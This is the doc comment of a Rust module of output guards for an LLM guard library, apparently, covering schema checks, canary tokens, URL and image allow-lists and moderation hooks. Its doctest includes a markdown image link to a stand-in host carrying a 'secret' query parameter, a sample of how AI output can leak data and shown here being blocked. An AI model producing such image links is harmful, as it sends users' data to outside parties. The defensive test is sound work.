//! Output guards: JSON Schema conformance, canary tokens, URL and image allow-lists, and the
//! moderation and grounding hooks. PII and secret leakage use the same guards as input
//! ([`crate::input::pii::PiiGuard`], [`crate::input::secrets::SecretGuard`]) placed in the output
//! stage.
//!
//! ```
//! # tokio::runtime::Builder::new_current_thread().build().unwrap().block_on(async {
//! use llmkit_guard::{Action, Guard, GuardContext};
//! use llmkit_guard::output::urls::UrlGuard;
//!
//! let g = UrlGuard::new(["docs.example.com"]).action(Action::Block);
//! let ctx = GuardContext::output();
//! assert!(g.check("See https://docs.example.com/refunds", &ctx).await.is_allow());
//! assert!(g.check("![x](https://evil.test/a.png?q=secret)", &ctx).await.is_block());
//! # })
//! ```

pub mod canary;
pub mod hooks;
pub mod schema;
pub mod urls;
